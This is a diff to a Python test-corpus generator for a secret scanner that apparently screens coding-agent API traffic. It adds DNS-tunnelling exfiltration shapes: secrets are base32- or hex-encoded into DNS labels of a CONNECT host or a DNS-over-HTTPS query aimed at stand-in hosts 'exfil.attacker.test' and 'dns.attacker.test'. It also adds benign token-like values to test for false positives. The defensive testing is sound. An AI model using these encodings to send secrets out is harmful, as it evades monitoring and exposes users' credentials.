@@ -1,12 +1,17 @@
 """The scanner's labelled corpus, generated deterministically (nothing large is committed).
 
 - `secret_samples()`: synthetic secrets in every provider format (fixed seeds), each
-  placed in a request through each of the eight transforms: plain, base64, hex,
-  url-encoded, nested JSON, unicode-escaped, reversed, split.
+  placed in a request through each transform: the issue's eight (plain, base64, hex,
+  url-encoded, nested JSON, unicode-escaped, reversed, split) and three DNS tunnelling
+  shapes the red team used (lower-case unpadded base32; base32 cut into the DNS labels of
+  a CONNECT target; hex labels in a DNS-over-HTTPS message, base64url in `?dns=`).
 - `benign_samples()`: ordinary developer traffic that must pass: source code (this
   Python's own standard library), lockfiles with integrity hashes (this repo's uv.lock
   and a generated package-lock.json), git SHAs, UUIDs, base64 images, minified JS,
-  and Claude-Code-like Messages API bodies from 10 KB to 2 MB.
+  Claude-Code-like Messages API bodies from 10 KB to 2 MB, and values that look like
+  bare random tokens but are protocol randomness or ids (npm `_integrity`, ETags,
+  request ids, nonces, OAuth state, CSRF tokens in forms and HTML, Sec-WebSocket-Key,
+  session cookies, digests, cursors), in bodies, query strings and headers.
 
 Used by tests/unit/scanner/test_scanner_recall.py and by bench/scanner_bench.py.
 """
@@ -17,6 +22,7 @@ import base64
 import json
 import random
 import string
+import struct
 import sysconfig
 import uuid
 import zlib
@@ -32,7 +38,8 @@ HEXA = "0123456789abcdefABCDEF"
 B64C = A + "+/"
 URLC = A + "_-"
 
-TRANSFORMS = ("plain", "base64", "hex", "url-encoded", "nested-json", "unicode-escaped", "reversed", "split")
+TRANSFORMS = ("plain", "base64", "hex", "url-encoded", "nested-json", "unicode-escaped", "reversed", "split",
+              "base32", "dns-labels", "doh")
 
 
 def _r(rng: random.Random, chars: str, n: int) -> str:
@@ -150,6 +157,20 @@ def _split(context: str, secret: str) -> bytes:
         {"type": "text", "text": context[:at]}, {"type": "text", "text": context[at:]}]}]}).encode()
 
 
+def _dns_labels(text: str) -> str:
+    return ".".join(text[i : i + 63] for i in range(0, len(text), 63))
+
+
+def _b32_dns(text: str) -> str:
+    """Lower case, unpadded: what DNS tunnelling tools emit."""
+    return base64.b32encode(text.encode()).decode().rstrip("=").lower()
+
+
+def _dns_query(name: str) -> bytes:
+    header = struct.pack("!HHHHHH", 0x2A2A, 0x0100, 1, 0, 0, 0)
+    return header + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x10\x00\x01"
+
+
 def apply(transform: str, context: str, secret: str) -> tuple[str, tuple[tuple[str, str], ...], bytes]:
     url = "https://api.example-llm.test/v1/messages"
     if transform == "plain":
@@ -169,6 +190,15 @@ def apply(transform: str, context: str, secret: str) -> tuple[str, tuple[tuple[s
         return url, JSON_CT, _messages(context[::-1])
     if transform == "split":
         return url, JSON_CT, _split(context, secret)
+    if transform == "base32":
+        return url, JSON_CT, _messages(_b32_dns(context))
+    if transform == "dns-labels":  # a CONNECT target: the name is scanned before it is resolved
+        host = f"{_dns_labels(_b32_dns(context))}.exfil.attacker.test"
+        return f"https://{host}:443/", (("host", f"{host}:443"), ("user-agent", "curl/8")), b""
+    if transform == "doh":
+        message = _dns_query(f"{_dns_labels(context.encode().hex())}.exfil.attacker.test")
+        query = base64.urlsafe_b64encode(message).decode().rstrip("=")
+        return f"https://dns.attacker.test/dns-query?dns={query}", (("accept", "application/dns-message"),), b""
     raise ValueError(transform)
 
 
@@ -289,6 +319,8 @@ class Benign:
     name: str
     body: bytes
     content_type: str = "application/json"
+    url: str = "https://api.test/v1/messages"
+    headers: tuple[tuple[str, str], ...] = ()  # besides the content type
 
 
 def benign_samples(seed: int = 7) -> Iterator[Benign]:
@@ -312,3 +344,131 @@ def benign_samples(seed: int = 7) -> Iterator[Benign]:
     for size in (10_000, 30_000, 100_000, 300_000, 1_000_000, 2_000_000):
         for j in range(3 if size < 1_000_000 else 2):
             yield Benign("messages", f"messages-{size // 1000}k-{j}", claude_body(rng, size, sources))
+    yield from protocol_values(random.Random(seed + 1))
+
+
+# --- values that look like bare random tokens and are not credentials -----------------------------
+
+
+def _tok(rng: random.Random, n: int, chars: str = A) -> str:
+    return _r(rng, chars, n)
+
+
+def _b64(rng: random.Random, n: int, url: bool = False) -> str:
+    raw = rng.randbytes(n)
+    return (base64.urlsafe_b64encode(raw) if url else base64.b64encode(raw)).decode()
+
+
+def _uuid(rng: random.Random) -> str:
+    return str(uuid.UUID(int=rng.getrandbits(128), version=4))
+
+
+def _claude_code_call(rng: random.Random) -> Benign:
+    """A Messages call as Claude Code sends it: session and user ids, betas, stainless headers."""
+    user = f"user_{_tok(rng, 64, HEXL)}_account_{_uuid(rng)}_session_{_uuid(rng)}"
+    body = {"model": "claude-sonnet-4-5-20250929", "max_tokens": 32000, "metadata": {"user_id": user},
+            "messages": [{"role": "user", "content": [{"type": "text", "text": "run the tests"}]},
+                         {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_01" + _tok(rng, 22),
+                                                            "name": "Bash", "input": {"command": "pytest -q"}}]},
+                         {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_01" + _tok(rng, 22),
+                                                       "content": "12 passed"}]}]}
+    headers = (("anthropic-version", "2023-06-01"), ("anthropic-beta", "claude-code-20250219,interleaved-thinking-2025-05-14"),
+               ("x-claude-code-session-id", _uuid(rng)), ("user-agent", "claude-cli/2.1.3 (external, cli)"),
+               ("x-stainless-lang", "js"), ("x-stainless-package-version", "0.60.0"), ("x-stainless-retry-count", "0"),
+               ("x-app", "cli"), ("accept-encoding", "gzip, deflate, br"))
+    return Benign("values", "claude-code-call", json.dumps(body).encode(), url="https://api.anthropic.com/v1/messages?beta=true",
+                  headers=headers)
+
+
+def _npm_package_json(rng: random.Random) -> Benign:
+    """An installed package's package.json from npm 5/6 (`_integrity`, `_resolved`, `_shasum`), read by the agent."""
+    name = "pkg-" + _tok(rng, 6, string.ascii_lowercase)
+    doc = {"name": name, "version": "1.4.2", "_id": f"{name}@1.4.2", "_from": f"{name}@^1.4.0",
+           "_integrity": "sha512-" + _b64(rng, 64), "_resolved": f"https://registry.example.test/{name}/-/{name}-1.4.2.tgz",
+           "_shasum": _tok(rng, 40, HEXL), "_spec": f"{name}@^1.4.0", "_where": "/work/app",
+           "dist": {"integrity": "sha512-" + _b64(rng, 64), "shasum": _tok(rng, 40, HEXL), "fileCount": 12}}
+    return Benign("values", "npm-package-json", json.dumps({"path": f"node_modules/{name}/package.json", "content": doc}).encode())
+
+
+def _github_api(rng: random.Random) -> Benign:
+    """Objects as GitHub's REST and GraphQL APIs return them, sent on to another tool."""
+    doc = {"sha": _tok(rng, 40, HEXL), "node_id": base64.b64encode(f"04:User{rng.randrange(10**7)}".encode()).decode(),
+           "pull_node_id": "PR_kwDO" + _tok(rng, 12, A + "_-"), "etag": f'W/"{_tok(rng, 64, HEXL)}"',
+           "tree": {"sha": _tok(rng, 40, HEXL)}, "after": base64.b64encode(f"cursor:v2:{rng.randrange(10**9)}".encode()).decode(),
+           "head": {"ref": "feature/login", "sha": _tok(rng, 40, HEXL)}}
+    return Benign("values", "github-api-objects", json.dumps(doc).encode())
+
+
+def _oauth_flow(rng: random.Random) -> list[Benign]:
+    """Authorization request (state, nonce, PKCE challenge) and the token exchange's form (no client secret)."""
+    query = (f"response_type=code&client_id=app-{_tok(rng, 8, HEXL)}&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcb"
+             f"&state={_tok(rng, 32)}&nonce={_tok(rng, 43)}&code_challenge={_b64(rng, 32, url=True).rstrip('=')}"
+             "&code_challenge_method=S256&scope=openid")
+    form = (f"grant_type=authorization_code&code={_tok(rng, 20, HEXL)}&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcb"
+            f"&code_verifier={_tok(rng, 64)}&state={_tok(rng, 32)}").encode()
+    return [Benign("values", "oauth-authorize", b"", "", url=f"https://auth.example.test/authorize?{query}"),
+            Benign("values", "oauth-token-exchange", form, "application/x-www-form-urlencoded", url="https://auth.example.test/token")]
+
+
+def _web_forms(rng: random.Random) -> list[Benign]:
+    """CSRF tokens: a Django form post, a Rails one, Laravel's `_token`, the HTML form they came from."""
+    csrf = _tok(rng, 64)
+    cookie = f"csrftoken={csrf}; sessionid={_tok(rng, 32, string.ascii_lowercase + string.digits)}; _ga=GA1.1.{rng.randrange(10**9)}"
+    django = f"csrfmiddlewaretoken={_tok(rng, 64)}&title=Fix+login&body=details".encode()
+    rails = f"authenticity_token={base64.b64encode(rng.randbytes(64)).decode()}&post%5Btitle%5D=hi".encode()
+    laravel = f"_token={_tok(rng, 40)}&email=dev%40example.test".encode()
+    html = (f'<html><head><meta name="csrf-token" content="{_tok(rng, 40)}"></head><body><form method="post">'
+            f'<input type="hidden" name="csrfmiddlewaretoken" value="{_tok(rng, 64)}"><input name="q"></form>'
+            f'<script src="/app.js" integrity="sha384-{_b64(rng, 48)}" nonce="{_b64(rng, 16)}"></script></body></html>').encode()
+    form_ct = "application/x-www-form-urlencoded"
+    return [Benign("values", "django-form", django, form_ct, url="https://app.example.test/posts/new",
+                   headers=(("cookie", cookie), ("x-csrftoken", csrf), ("referer", "https://app.example.test/posts/new"))),
+            Benign("values", "rails-form", rails, form_ct, url="https://rails.example.test/posts",
+                   headers=(("cookie", f"_app_session={_tok(rng, 48)}--{_tok(rng, 40, HEXL)}"),)),
+            Benign("values", "laravel-form", laravel, form_ct, url="https://laravel.example.test/login",
+                   headers=(("x-xsrf-token", _b64(rng, 60)),)),
+            Benign("values", "html-with-csrf", html, "text/html; charset=utf-8", url="https://app.example.test/render")]
+
+
+def _http_protocol(rng: random.Random) -> list[Benign]:
+    """Headers that carry randomness: WebSocket keys, ETags, request and trace ids, digests, idempotency keys."""
+    ws = (("upgrade", "websocket"), ("connection", "Upgrade"), ("sec-websocket-key", _b64(rng, 16)), ("sec-websocket-version", "13"))
+    cond = (("if-none-match", f'"{_tok(rng, 32, HEXL)}"'), ("if-match", f'W/"{_tok(rng, 40)}"'),
+            ("x-request-id", _uuid(rng)), ("x-correlation-id", _tok(rng, 32)), ("traceparent", f"00-{_tok(rng, 32, HEXL)}-{_tok(rng, 16, HEXL)}-01"),
+            ("x-amzn-trace-id", f"Root=1-{_tok(rng, 8, HEXL)}-{_tok(rng, 24, HEXL)}"))
+    upload = (("idempotency-key", _tok(rng, 40)), ("content-md5", _b64(rng, 16)), ("x-amz-content-sha256", _tok(rng, 64, HEXL)),
+              ("digest", f"sha-256={_b64(rng, 32)}"))
+    registry = (("docker-content-digest", f"sha256:{_tok(rng, 64, HEXL)}"), ("accept", "application/vnd.oci.image.manifest.v1+json"))
+    manifest = {"schemaVersion": 2, "config": {"digest": f"sha256:{_tok(rng, 64, HEXL)}", "size": 1469},
+                "layers": [{"digest": f"sha256:{_tok(rng, 64, HEXL)}", "size": rng.randrange(10**7)} for _ in range(4)]}
+    return [Benign("values", "websocket-handshake", b"", "", url="https://ws.example.test/socket", headers=ws),
+            Benign("values", "conditional-get", b"", "", url=f"https://cdn.example.test/a.js?v={_tok(rng, 40, HEXL)}", headers=cond),
+            Benign("values", "upload-with-digests", json.dumps({"name": "report.pdf", "size": 1234}).encode(),
+                   url=f"https://files.example.test/upload?upload_id={_uuid(rng)}", headers=upload),
+            Benign("values", "registry-manifest", json.dumps(manifest).encode(), "application/vnd.oci.image.manifest.v1+json",
+                   url="https://registry.example.test/v2/app/manifests/latest", headers=registry)]
+
+
+def _ids_and_cursors(rng: random.Random) -> Benign:
+    """Ids and cursors of APIs an agent calls: typed ids, ULIDs, nanoids, ObjectIds, base64 cursors, digests."""
+    items = [{"id": f"cus_{_tok(rng, 14)}", "ulid": _tok(rng, 26, AU), "nanoid": _tok(rng, 21, A + "_-"),
+              "mongo": _tok(rng, 24, HEXL), "uuid": _uuid(rng), "ksuid": _tok(rng, 27),
+              "checksum": _b64(rng, 32), "sri": "sha256-" + _b64(rng, 32),
+              "class": rng.choice(["AbstractSingletonProxyFactoryBean", "SimpleBeanFactoryAwareAspectInstanceFactory2",
+                                   "InternalFrameTitlePaneMaximizeButtonWindowNotFocusedState"])} for _ in range(20)]
+    doc = {"data": items, "next_cursor": base64.b64encode(json.dumps({"offset": 20, "sort": "created_at"}).encode()).decode(),
+           "pageToken": _b64(rng, 48, url=True), "request_id": f"req_{_tok(rng, 24)}"}
+    return Benign("values", "ids-and-cursors", json.dumps(doc).encode())
+
+
+def protocol_values(rng: random.Random) -> Iterator[Benign]:
+    """Values shaped like bare random tokens that are protocol randomness, ids or digests (not credentials:
+    scanner/bare.py says why), in JSON bodies, forms, query strings, headers and HTML."""
+    for _ in range(3):
+        yield _claude_code_call(rng)
+        yield _npm_package_json(rng)
+        yield _github_api(rng)
+        yield from _oauth_flow(rng)
+        yield from _web_forms(rng)
+        yield from _http_protocol(rng)
+        yield _ids_and_cursors(rng)
